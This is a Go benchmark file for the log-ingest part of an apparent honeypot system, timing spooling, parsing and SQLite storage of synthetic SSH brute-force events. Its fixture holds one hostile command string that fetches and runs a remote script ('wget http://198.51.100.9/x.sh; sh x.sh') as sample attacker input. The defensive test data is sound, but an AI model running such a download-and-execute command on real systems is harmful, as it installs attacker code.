package ingest

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"testing"
	"time"

	"github.com/decnet/decnet"
	"github.com/decnet/decnet/collector"
	"github.com/decnet/decnet/rfc5424"
	"github.com/decnet/decnet/store"
)

// session makes the events of one attacker's visit: what a brute-force bot does.
func session(n int) []decnet.Event {
	src := netip.AddrFrom4([4]byte{203, 0, byte(n >> 8 & 15), byte(n)})
	at := time.Date(2026, 4, 18, 0, 0, 0, 0, time.UTC).Add(time.Duration(n) * 5 * time.Second)
	var list []decnet.Event
	emit := func(typ string, fields ...decnet.Field) {
		at = at.Add(37 * time.Millisecond)
		list = append(list, rfc5424.Canonical(decnet.Event{
			Time: at, Decky: fmt.Sprintf("decky-%02d", n%5), Service: "ssh", Type: typ, Attacker: src, Severity: decnet.SeverityInfo,
			Fields: append([]decnet.Field{decnet.F("src_ip", src.String()), decnet.F("src_port", strconv.Itoa(30000+n%20000))}, fields...),
		}))
	}
	emit("connect", decnet.F("dst_ip", "192.0.2.10"), decnet.F("dst_port", "22"))
	emit("session", decnet.F("client_banner", "SSH-2.0-Go"), decnet.F("hassh", "0a07365cc01fa9fc82608ba4019af499"))
	for i := range 4 {
		emit("auth_attempt", decnet.F("username", "root"), decnet.F("password", strconv.Itoa((n+i)%500)), decnet.F("method", "password"), decnet.F("outcome", "failure"))
	}
	emit("command", decnet.F("command", "cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh"))
	emit("disconnect", decnet.F("duration_ms", "1200"), decnet.F("bytes_in", "2048"), decnet.F("bytes_out", "4096"), decnet.F("reason", "closed"))
	return list
}

const benchRecords = 20_000

// spoolFor writes a spool of benchRecords records.
func spoolFor(b *testing.B, path string) {
	var text []byte
	for n := range benchRecords / 8 {
		for _, e := range session(n) {
			text = append(rfc5424.AppendJSON(text, &e, string(rfc5424.Append(nil, &e))), '\n')
		}
	}
	if err := os.WriteFile(path, text, 0o600); err != nil {
		b.Fatal(err)
	}
}

// BenchmarkIngest moves 20,000 records from a file into SQLite.
func BenchmarkIngest(b *testing.B) {
	path := filepath.Join(b.TempDir(), "decnet.json")
	spoolFor(b, path)
	for n := 0; b.Loop(); n++ {
		b.StopTimer()
		db := open(b, filepath.Join(b.TempDir(), fmt.Sprintf("%d.db", n)))
		b.StartTimer()
		catchUp(b, New(db, path, Options{}))
	}
	b.ReportMetric(float64(b.N*benchRecords)/b.Elapsed().Seconds(), "records/s")
}

// BenchmarkStoreAlone hands the store the same batches, read and parsed beforehand: what
// BenchmarkIngest can reach at best.
func BenchmarkStoreAlone(b *testing.B) {
	var batches []store.Batch
	for n := range benchRecords / 8 {
		for _, e := range session(n) {
			if len(batches) == 0 || len(batches[len(batches)-1].Records) == 100 {
				batches = append(batches, store.Batch{Cursor: store.Cursor{Source: "x", Offset: int64(n)}})
			}
			last := &batches[len(batches)-1]
			last.Records = append(last.Records, store.Record{Event: e, Raw: string(rfc5424.Append(nil, &e))})
			last.Bounties = append(last.Bounties, Extract(&e)...)
		}
	}
	for n := 0; b.Loop(); n++ {
		b.StopTimer()
		db := open(b, filepath.Join(b.TempDir(), fmt.Sprintf("%d.db", n)))
		b.StartTimer()
		for _, batch := range batches {
			if _, err := db.Ingest(b.Context(), batch); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(float64(b.N*benchRecords)/b.Elapsed().Seconds(), "records/s")
}

// BenchmarkExtract looks for bounties in the events of a visit.
func BenchmarkExtract(b *testing.B) {
	events := session(7)
	b.ReportAllocs()
	for b.Loop() {
		for i := range events {
			Extract(&events[i])
		}
	}
	b.ReportMetric(float64(b.N*len(events))/b.Elapsed().Seconds(), "records/s")
}

// BenchmarkSpool emits events from this process until they are in the files.
func BenchmarkSpool(b *testing.B) {
	events := session(7)
	for n := 0; b.Loop(); n++ {
		b.StopTimer()
		c, err := collector.New(filepath.Join(b.TempDir(), "decnet.log"), collector.Options{Memory: 1 << 30, Window: -1})
		if err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		run(b, c, func() {
			for i := range benchRecords {
				c.Emit(events[i%len(events)])
			}
		})
		if s := c.Status(); s.Records != benchRecords {
			b.Fatalf("status %+v", s)
		}
	}
	b.ReportMetric(float64(b.N*benchRecords)/b.Elapsed().Seconds(), "records/s")
}

// run runs c until f has ended and all that f emitted is written.
func run(b *testing.B, c *collector.Collector, f func()) {
	ctx, cancel := context.WithCancel(b.Context())
	done := make(chan error, 1)
	go func() { done <- c.Run(ctx) }()
	f()
	cancel()
	if err := <-done; err != nil {
		b.Fatal(err)
	}
}
